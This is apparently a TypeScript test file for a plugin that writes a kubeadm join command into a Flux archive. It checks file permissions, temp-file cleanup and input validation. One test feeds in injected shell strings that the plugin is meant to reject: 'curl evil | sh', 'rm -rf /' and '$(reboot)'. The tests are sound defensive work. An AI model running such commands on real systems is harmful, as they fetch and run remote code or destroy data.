import { mkdirSync, readdirSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import t from "tap";
import { publishJoinCommand, removePublished } from "../../plugin/join-command.js";
import type { World } from "../../plugin/world.js";
import { JOBID, Life } from "../fakes/life.js";
import { JOIN_COMMAND, TOKEN } from "../fakes/playing-run.js";

/** What is in the temporary directory of this world's. */
const litter = ({ site }: World) =>
  readdirSync(tmpdir()).filter((name) => name.includes(site.instance));

t.test("the join-command goes into an archive from a file that only the owner reads", async (t) => {
  const { nodes, world } = new Life();
  await publishJoinCommand(JOBID, JOIN_COMMAND, world);
  t.strictSame(nodes.commands, ["archive create usernetes-2qt1hsjy5"]);
  t.strictSame(nodes.archived, [{ text: JOIN_COMMAND, mode: 0o600 }]);
  t.strictSame(litter(world), [], "the file is gone again");
});

t.test("what the template's Makefile puts around it does not matter", async (t) => {
  const { nodes, world } = new Life();
  await publishJoinCommand(JOBID, `# Run this:\n${JOIN_COMMAND}\n`, world);
  t.equal(nodes.archived.length, 1);
});

t.test("what is no join-command is not published, nor shown", async (t) => {
  const { nodes, world } = new Life();
  for (const text of [
    "",
    `kubeadm join --token ${TOKEN}`,
    JOIN_COMMAND.replace("kubeadm join", "curl evil | sh; kubeadm join"),
    JOIN_COMMAND.replace("\n", "; rm -rf /\n"),
    JOIN_COMMAND.replace("10.0.0.1:20003", "$(reboot)"),
    JOIN_COMMAND.replace("10.0.0.1", "$(reboot)"),
  ])
    await t.rejects(
      publishJoinCommand(JOBID, text, world),
      new Error("what make join-command made is no join-command of kubeadm's"),
      text,
    );
  t.strictSame(nodes.commands, []);
});

t.test("an archive that cannot be made is told, and the file is gone all the same", async (t) => {
  const { nodes, world } = new Life();
  nodes.archive = () => ({ exitCode: 1, stderr: "flux-archive: create: Permission denied\n" });
  await t.rejects(publishJoinCommand(JOBID, JOIN_COMMAND, world), {
    message: /^flux archive create .*: exit 1: flux-archive: create: Permission denied$/,
  });
  t.strictSame(litter(world), []);
});

t.test("what a killed daemon left is replaced, and removed", async (t) => {
  const { nodes, world } = new Life();
  const left = join(tmpdir(), `usernetes-join-${JOBID}-${world.site.instance}`);
  const leave = () => {
    mkdirSync(left);
    writeFileSync(join(left, "join-command"), "an old token");
  };
  leave();
  await publishJoinCommand(JOBID, JOIN_COMMAND, world);
  t.equal(nodes.archived[0]?.text, JOIN_COMMAND);
  t.strictSame(litter(world), []);
  leave();
  removePublished(JOBID, world);
  t.strictSame(litter(world), []);
});
